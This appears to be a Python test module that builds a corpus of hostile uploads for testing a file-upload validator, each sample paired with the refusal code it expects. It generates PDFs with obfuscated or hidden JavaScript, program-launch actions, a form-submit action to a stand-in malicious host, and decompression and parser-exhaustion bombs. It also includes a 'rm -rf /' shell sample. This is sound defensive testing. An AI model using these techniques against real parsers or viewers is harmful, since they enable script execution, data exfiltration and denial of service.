"""A corpus of hostile uploads, made here: nothing dangerous is kept in the repository (P8, T9; ASVS 5.2).

Each entry: a name, the bytes, the code of the refusal that is expected.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

Name, Text = NameObject, TextStringObject


def action(kind: str, **facts: Any) -> DictionaryObject:
    return DictionaryObject({Name("/S"): Name(kind), **{Name(f"/{key}"): value for key, value in facts.items()}})


SCRIPT = partial(action, "/JavaScript", JS=Text("app.alert(1)"))


def pdf(change: Callable[[PdfWriter], None] | None = None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def on_root(key: str, value: Any) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[Name(key)] = value

    return pdf(change)


def on_page(key: str, value: Any) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.pages[0][Name(key)] = value

    return pdf(change)


def annotation(subtype: str, **facts: Any) -> bytes:
    row = DictionaryObject({Name("/Type"): Name("/Annot"), Name("/Subtype"): Name(subtype)})
    row.update({Name(f"/{key}"): value for key, value in facts.items()})
    return on_page("/Annots", ArrayObject([row]))


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF written by hand, as tools of attackers write them: names as they please."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table)
    return out


CATALOGUE, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def hidden_name() -> bytes:
    """/JavaScript spelled /J#61vaScript, as the standard allows."""
    script = b"<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>"
    return raw_pdf(CATALOGUE[:-3] + b" /OpenAction 4 0 R >>", PAGES, PAGE, script)


def orphan() -> bytes:
    """A script that nothing points to yet: another reader's repair may find it."""
    return raw_pdf(CATALOGUE, PAGES, PAGE, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def chained() -> bytes:
    """A harmless first action, and a script that follows it."""
    return on_root("/OpenAction", action("/GoTo", D=ArrayObject(), Next=SCRIPT()))


def in_an_object_stream() -> bytes:
    """The script inside a compressed object stream."""
    inner = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inner)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    body = raw_pdf(CATALOGUE[:-3] + b" /OpenAction 4 0 R >>", PAGES, PAGE)
    return body.replace(b"%%EOF", b"") + b"5 0 obj\n" + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def appended_revision() -> bytes:
    """A clean PDF, then an update that adds a script."""
    clean = raw_pdf(CATALOGUE, PAGES, PAGE)
    first = clean.rindex(b"startxref\n") + len(b"startxref\n")
    place = len(clean)
    update = b"1 0 obj\n" + CATALOGUE[:-3] + b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
    table = place + len(update)
    return (
        clean
        + update
        + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (place, clean[first:].split(b"\n")[0], table)
    )


def attached_to_a_page() -> bytes:
    stream = StreamObject()
    stream.set_data(b"MZ")
    file = DictionaryObject({Name("/Type"): Name("/Filespec"), Name("/EF"): DictionaryObject({Name("/F"): stream})})
    return annotation("/FileAttachment", FS=file)


def deep() -> bytes:
    """Arrays in arrays, until a parser that goes down falls."""
    return raw_pdf(CATALOGUE[:-3] + b" /X " + b"[" * 5_000 + b"]" * 5_000 + b" >>", PAGES, PAGE)


def circle() -> bytes:
    """A tree of pages that is its own child."""
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>", PAGE)


def thousand_pages() -> bytes:
    """One page, told a thousand times."""
    kids = b"3 0 R " * 1_000
    return raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000 >>", PAGE)


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **facts: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **facts)
    return out.getvalue()


def archive(name: str = "charge.exe", content: bytes = b"MZ") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as found:
        found.writestr(name, content)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that announce a picture of any size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def png_with_a_swollen_text() -> bytes:
    """A comment that unpacks to a gigabyte."""
    comment = b"Comment\0\0" + zlib.compress(b"\0" * 80_000_000, 9)
    plain = picture("PNG")
    return plain[:33] + chunk(b"zTXt", comment) + plain[33:]


def corpus() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    """Every hostile file, by name."""
    yield from _scripts()
    yield from _carriers()
    yield from _shapes()
    yield from _strangers()


def _scripts() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    named = DictionaryObject({Name("/Names"): ArrayObject([Text("a"), SCRIPT()])})
    tree = DictionaryObject({Name("/JavaScript"): named})
    yield "a script when it opens", lambda: on_root("/OpenAction", SCRIPT()), "active"
    yield "a script by name", lambda: on_root("/Names", tree), "active"
    yield "a script when a page opens", lambda: on_page("/AA", DictionaryObject({Name("/O"): SCRIPT()})), "active"
    yield "a script when it closes", lambda: on_root("/AA", DictionaryObject({Name("/WC"): SCRIPT()})), "active"
    yield "a script on a link", lambda: annotation("/Link", A=SCRIPT()), "active"
    yield "a script on a field", lambda: annotation("/Widget", AA=DictionaryObject({Name("/K"): SCRIPT()})), "active"
    yield "a script after another action", chained, "active"
    yield "a script in bytes", lambda: on_root("/X", action("/JavaScript", JS=ByteStringObject(b"a()"))), "active"
    yield "a script spelled otherwise", hidden_name, "active"
    yield "a script that nothing points to", orphan, "active"
    yield "a script in a later revision", appended_revision, "active"
    yield (
        "a program launched when it opens",
        lambda: on_root("/OpenAction", action("/Launch", F=Text("a.exe"))),
        "active",
    )
    yield "a program launched by a link", lambda: annotation("/Link", A=action("/Launch", F=Text("a.exe"))), "active"
    yield "another file opened", lambda: annotation("/Link", A=action("/GoToR", F=Text("//mal/a.pdf"))), "active"
    yield "an embedded file opened", lambda: annotation("/Link", A=action("/GoToE")), "active"
    yield (
        "a form sent away",
        lambda: annotation("/Widget", A=action("/SubmitForm", F=Text("https://mal.example"))),
        "active",
    )
    yield "data brought in", lambda: annotation("/Widget", A=action("/ImportData", F=Text("a.fdf"))), "active"


def _carriers() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    form = DictionaryObject({Name("/XFA"): Text("<xdp/>"), Name("/Fields"): ArrayObject()})
    yield "an attachment", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ") and None), "active"
    yield "an attachment on a page", attached_to_a_page, "active"
    yield "a form that is a program", lambda: on_root("/AcroForm", form), "active"
    yield "a film", lambda: annotation("/Movie", Movie=DictionaryObject()), "active"
    yield "a sound", lambda: annotation("/Sound", Sound=DictionaryObject()), "active"
    yield "rich media", lambda: annotation("/RichMedia"), "active"
    yield "a model in three dimensions", lambda: annotation("/3D"), "active"
    yield "a screen that plays", lambda: annotation("/Screen", A=action("/Rendition", OP=NumberObject(0))), "active"
    yield "a PDF that is also an archive", lambda: pdf() + archive(), "active"
    yield "a PDF with another behind it", lambda: pdf() + b"\0" * 4_000, "active"
    yield "a PDF with a page of HTML behind it", lambda: pdf() + b"<script>alert(1)</script>" * 60, "active"


def _shapes() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield "a locked PDF", lambda: pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128")), "locked"
    yield (
        "a PDF locked with an empty word",
        lambda: pdf(lambda w: w.encrypt("", "maître", algorithm="RC4-128")),
        "locked",
    )
    yield "too many pages", lambda: pdf(pages=40), "too_many_pages"
    yield "one page told a thousand times", thousand_pages, "too_many_pages"
    yield "pages in a circle", circle, "unreadable"
    yield "a PDF without pages", lambda: raw_pdf(b"<< /Type /Catalog >>"), "unreadable"
    yield "arrays in arrays", deep, "unreadable"
    yield "a script in an object stream", in_an_object_stream, "unreadable"
    yield "a PDF cut in the middle", lambda: pdf(pages=3)[:300], "unreadable"
    yield "a picture of a billion points", lambda: png_that_claims(40_000, 40_000), "too_many_pixels"
    yield "a picture as long as a road", lambda: png_that_claims(2_000_000_000, 2), "too_many_pixels"
    yield "a picture cut in the middle", lambda: picture(size=(400, 300))[:200], "unreadable"
    yield "a picture without its data", lambda: png_that_claims(100, 100), "unreadable"
    yield "a comment that unpacks to a flood", png_with_a_swollen_text, "unreadable"
    yield "nothing", lambda: b"", "empty"
    yield "too heavy", lambda: b"\xff\xd8\xff" + b"0" * 9_000_000, "too_heavy"


def _strangers() -> Iterator[tuple[str, Callable[[], bytes], str]]:
    yield "a page of HTML", lambda: b"<!doctype html><script>alert(1)</script>", "wrong_kind"
    yield "a drawing with a script", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "wrong_kind"
    yield "a program for Windows", lambda: b"MZ" + b"\0" * 300, "wrong_kind"
    yield "a program for Linux", lambda: b"\x7fELF" + b"\0" * 300, "wrong_kind"
    yield "a shell script", lambda: b"#!/bin/sh\nrm -rf /\n", "wrong_kind"
    yield "an archive", archive, "wrong_kind"
    yield "a Word document", lambda: archive("word/document.xml"), "wrong_kind"
    yield "an animated picture", lambda: picture("GIF", mode="P"), "wrong_kind"
    yield "a TIFF", lambda: picture("TIFF"), "wrong_kind"
    yield "a WebP", lambda: picture("WEBP"), "wrong_kind"
    yield "an icon", lambda: picture("ICO"), "wrong_kind"
    yield "a PostScript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n" + b"0" * 100, "wrong_kind"
    yield "a PDF that begins later", lambda: b"<html>" + pdf(), "wrong_kind"
    yield "a JPEG by its first bytes only", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 100, "unreadable"
    yield "a PNG by its first bytes only", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "unreadable"
    yield "a PDF by its first bytes only", lambda: b"%PDF-1.7\n" + b"A" * 300 + b"%%EOF", "unreadable"
